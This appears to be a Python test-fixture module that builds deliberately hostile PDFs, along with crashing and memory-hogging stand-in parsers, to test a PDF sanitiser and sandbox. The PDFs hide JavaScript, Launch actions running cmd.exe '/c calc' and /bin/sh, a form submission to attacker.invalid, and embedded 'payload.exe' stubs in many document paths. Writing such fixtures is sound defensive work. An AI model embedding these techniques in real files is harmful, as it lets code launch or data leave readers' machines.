"""Misbehaving "parsers" for the sandbox tests. Django-free: they run inside the sandbox child."""

import os
import time

from registry.intake.errors import PdfDamagedError


def spin(seconds):
    time.sleep(seconds)
    return "woke up"


def hog_memory(megabytes):
    blocks = [bytearray(1024 * 1024) for _ in range(megabytes)]
    return len(blocks)


def crash():
    os.abort()


def refuse():
    raise PdfDamagedError("xref hỏng", problems=3)


def echo(value):
    return value


def pid():
    return os.getpid()


_hoard = []


def hoard(megabytes):
    """Keep ``megabytes`` alive in the worker after returning (leftovers of a previous file)."""
    _hoard.append(bytearray(megabytes * 1024 * 1024))
    return os.getpid()


# --- Hostile PDFs: one per path by which active content used to survive sanitising ---------------------------
# Each builder returns the bytes of a PDF whose visible page says "hostile <path>" and which hides active
# content (JavaScript, launch, URI, form submission, embedded files, XMP) behind one path.

def _base(marker):
    import io

    import pikepdf

    from tests.intake.samples import text_pdf

    return pikepdf.open(io.BytesIO(text_pdf(marker=f"hostile {marker}")))


def _save(pdf) -> bytes:
    import io

    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _js(pdf, code="app.alert('x');"):
    import pikepdf

    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code)))


def _embedded(pdf, name="payload.exe"):
    import pikepdf

    stream = pdf.make_stream(b"MZ payload bytes", Type=pikepdf.Name.EmbeddedFile)
    return pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F=pikepdf.String(name), UF=pikepdf.String(name),
        EF=pikepdf.Dictionary(F=stream)))


def _appearance(pdf, text=b"0 0 1 rg 0 0 80 20 re f"):
    import pikepdf

    return pdf.make_stream(text, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                           BBox=pikepdf.Array([0, 0, 80, 20]), Resources=pikepdf.Dictionary())


def _annotate(pdf, *annots):
    import pikepdf

    page = pdf.pages[0].obj
    page.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(a) for a in annots]))


def widget_parent_aa_javascript() -> bytes:
    """A widget whose /Parent field carries /AA with three JavaScript actions; no /AcroForm at all."""
    import pikepdf

    pdf = _base("widget-parent-aa")
    field = pdf.make_indirect(pikepdf.Dictionary(
        FT=pikepdf.Name.Tx, T=pikepdf.String("ten"),
        AA=pikepdf.Dictionary(K=_js(pdf, "a()"), F=_js(pdf, "b()"), V=_js(pdf, "c()"))))
    widget = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, Parent=field,
                                Rect=pikepdf.Array([56, 600, 136, 620]), F=4,
                                AP=pikepdf.Dictionary(N=_appearance(pdf)))
    _annotate(pdf, widget)
    field.Kids = pikepdf.Array([pdf.pages[0].obj.Annots[0]])
    return _save(pdf)


def widget_without_acroform() -> bytes:
    """Widget annotations (a submit button, a text field) with no /AcroForm in the catalog."""
    import pikepdf

    pdf = _base("widget-no-acroform")
    button = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, T=pikepdf.String("gui"),
        Rect=pikepdf.Array([56, 560, 136, 580]), F=4, AP=pikepdf.Dictionary(N=_appearance(pdf)),
        A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://attacker.invalid/collect")))
    field = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T=pikepdf.String("o"),
        Rect=pikepdf.Array([56, 520, 136, 540]), A=pikepdf.Dictionary(S=pikepdf.Name.ImportData,
                                                                       F=pikepdf.String("data.fdf")))
    _annotate(pdf, button, field)
    return _save(pdf)


def struct_p_af_embedded_file() -> bytes:
    """An annotation whose /P is a structure element with /AF → an embedded file (and the tree reached
    from the catalog's /StructTreeRoot and the page's /StructParents)."""
    import pikepdf

    pdf = _base("struct-p-af")
    spec = _embedded(pdf, "af-payload.exe")
    root = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.StructTreeRoot))
    element = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.StructElem, S=pikepdf.Name.Document, P=root,
                                                   AF=pikepdf.Array([spec]), Pg=pdf.pages[0].obj))
    root.K = element
    pdf.Root.StructTreeRoot = root
    pdf.pages[0].obj.StructParents = 0
    pdf.pages[0].obj.AF = pikepdf.Array([spec])
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, P=element,
                              Rect=pikepdf.Array([0, 0, 20, 20]), Contents=pikepdf.String("x"))
    _annotate(pdf, note)
    return _save(pdf)


def pa_javascript() -> bytes:
    """A link annotation whose /PA (the URI action of its parent) is JavaScript, and /A a URI."""
    import pikepdf

    pdf = _base("pa")
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 90, 20]),
                              PA=_js(pdf, "pa()"),
                              A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://x.invalid/")))
    _annotate(pdf, link)
    return _save(pdf)


def popup_javascript() -> bytes:
    """A text note whose /Popup annotation carries a JavaScript action and /AA."""
    import pikepdf

    pdf = _base("popup")
    popup = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Popup, Rect=pikepdf.Array([100, 100, 200, 200]),
        A=_js(pdf, "popup()"), AA=pikepdf.Dictionary(PO=_js(pdf, "open()"))))
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=pikepdf.Array([0, 0, 20, 20]),
                              Popup=popup, Contents=pikepdf.String("note"))
    popup.Parent = pdf.make_indirect(note)
    _annotate(pdf, note)
    return _save(pdf)


def parent_js_and_launch() -> bytes:
    """An annotation whose /Parent dictionary carries /JS directly and a /Launch action."""
    import pikepdf

    pdf = _base("parent-js-launch")
    parent = pdf.make_indirect(pikepdf.Dictionary(
        JS=pikepdf.String("parent()"),
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"),
                             Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"), P=pikepdf.String("/c calc")))))
    widget = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, Parent=parent,
                                Rect=pikepdf.Array([0, 0, 50, 20]), AP=pikepdf.Dictionary(N=_appearance(pdf)))
    _annotate(pdf, widget)
    return _save(pdf)


def file_attachment_annotation() -> bytes:
    """An embedded payload as a file-attachment annotation and in the EmbeddedFiles name tree."""
    import pikepdf

    pdf = _base("attachment")
    spec = _embedded(pdf)
    pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("payload.exe"), spec])))
    _annotate(pdf, pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment,
                                      Rect=pikepdf.Array([0, 0, 10, 10]), FS=spec))
    return _save(pdf)


def open_action_javascript() -> bytes:
    """Catalog /OpenAction JavaScript chained through /Next to a Launch action, and catalog /AA."""
    import pikepdf

    pdf = _base("openaction")
    js = _js(pdf, "boot()")
    js.Next = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/bin/sh"))
    pdf.Root.OpenAction = js
    pdf.Root.AA = pikepdf.Dictionary(WC=_js(pdf, "close()"))
    return _save(pdf)


def names_tree_javascript() -> bytes:
    """Document-level JavaScript in the catalog's /Names /JavaScript tree (with /Kids)."""
    import pikepdf

    pdf = _base("names-js")
    leaf = pdf.make_indirect(pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("boot"), _js(pdf, "boot()")]),
                                                Limits=pikepdf.Array([pikepdf.String("boot"), pikepdf.String("boot")])))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Kids=pikepdf.Array([leaf])))
    return _save(pdf)


def page_aa_and_uri_link() -> bytes:
    """Page open/close actions (/AA) and a URI link."""
    import pikepdf

    pdf = _base("page-aa")
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=_js(pdf, "o()"), C=_js(pdf, "c()"))
    _annotate(pdf, pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                      Rect=pikepdf.Array([0, 0, 90, 20]),
                                      A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://x.invalid"))))
    return _save(pdf)


def resources_carry_active_keys() -> bytes:
    """Active content hidden inside what a page needs: a font with /JS, an image with /AF + XMP
    /Metadata, a form XObject with /AA, /PieceInfo and an external /Ref, a graphics state with /AA."""
    import pikepdf

    pdf = _base("resources")
    page = pdf.pages[0]
    spec = _embedded(pdf, "image-af.exe")
    xmp = pdf.make_stream(b'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/">secret</x:xmpmeta>',
                          Type=pikepdf.Name.Metadata, Subtype=pikepdf.Name.XML)
    image = pdf.make_stream(b"\xff" * 16, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=4, Height=4,
                            ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=8, AF=pikepdf.Array([spec]),
                            Metadata=xmp)
    form = pdf.make_stream(b"0 0 1 rg 0 0 10 10 re f", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                           BBox=pikepdf.Array([0, 0, 10, 10]), AA=pikepdf.Dictionary(O=_js(pdf, "form()")),
                           PieceInfo=pikepdf.Dictionary(App=pikepdf.Dictionary(Private=_js(pdf, "piece()"))),
                           Ref=pikepdf.Dictionary(F=_embedded(pdf, "ref.pdf"), Page=0))
    resources = page.obj.Resources
    for font in resources.Font.values():
        font.JS = pikepdf.String("font()")
    resources.XObject = pikepdf.Dictionary(Im1=image, Fm1=form)
    resources.ExtGState = pikepdf.Dictionary(G1=pikepdf.Dictionary(Type=pikepdf.Name.ExtGState, CA=1,
                                                                   AA=_js(pdf, "gs()")))
    page.contents_add(pdf.make_stream(b"q 20 0 0 20 400 700 cm /Im1 Do Q q 1 0 0 1 400 650 cm /Fm1 Do Q"))
    return _save(pdf)


def xfa_and_acroform_javascript() -> bytes:
    """An /AcroForm with XFA streams and a calculation order of JavaScript fields."""
    import pikepdf

    pdf = _base("xfa")
    field = pdf.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("x"),
                                                 AA=pikepdf.Dictionary(C=_js(pdf, "calc()"))))
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([field]), CO=pikepdf.Array([field]),
        XFA=pikepdf.Array([pikepdf.String("template"), pdf.make_stream(b"<xdp:xdp><script>x()</script></xdp:xdp>")]))
    return _save(pdf)


def rich_media_annotation() -> bytes:
    """A RichMedia annotation (Flash-era active content) with its assets as embedded files."""
    import pikepdf

    pdf = _base("richmedia")
    spec = _embedded(pdf, "movie.swf")
    _annotate(pdf, pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=pikepdf.Array([0, 0, 100, 100]),
        RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("movie.swf"), spec]))),
        RichMediaSettings=pikepdf.Dictionary(Activation=pikepdf.Dictionary(Condition=pikepdf.Name.PO))))
    return _save(pdf)


def unreachable_javascript_object() -> bytes:
    """Objects no page reaches (an orphan JavaScript action, an orphan embedded file, XMP and DocInfo)."""
    pdf = _base("orphan")
    _js(pdf, "orphan()")
    _embedded(pdf, "orphan.exe")
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:title"] = "Bí mật XMP"
    pdf.docinfo["/Title"] = "Bí mật DocInfo"
    return _save(pdf)


def annotation_appearance_with_active_resources() -> bytes:
    """A stamp annotation whose appearance (flattened into the page) names an XObject carrying /AF and /AA."""
    import pikepdf

    pdf = _base("appearance")
    inner = pdf.make_stream(b"1 0 0 rg 0 0 10 10 re f", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                            BBox=pikepdf.Array([0, 0, 10, 10]), AF=pikepdf.Array([_embedded(pdf, "ap.exe")]),
                            AA=pikepdf.Dictionary(O=_js(pdf, "ap()")))
    appearance = pdf.make_stream(b"/X1 Do", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                                 BBox=pikepdf.Array([0, 0, 10, 10]),
                                 Resources=pikepdf.Dictionary(XObject=pikepdf.Dictionary(X1=inner)))
    _annotate(pdf, pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Stamp, F=4,
                                      Rect=pikepdf.Array([300, 300, 400, 400]), AP=pikepdf.Dictionary(N=appearance),
                                      A=_js(pdf, "stamp()")))
    return _save(pdf)


HOSTILE_PDFS = {
    builder.__name__: builder
    for builder in (
        widget_parent_aa_javascript, widget_without_acroform, struct_p_af_embedded_file, pa_javascript,
        popup_javascript, parent_js_and_launch, file_attachment_annotation, open_action_javascript,
        names_tree_javascript, page_aa_and_uri_link, resources_carry_active_keys, xfa_and_acroform_javascript,
        rich_media_annotation, unreachable_javascript_object, annotation_appearance_with_active_resources,
    )
}
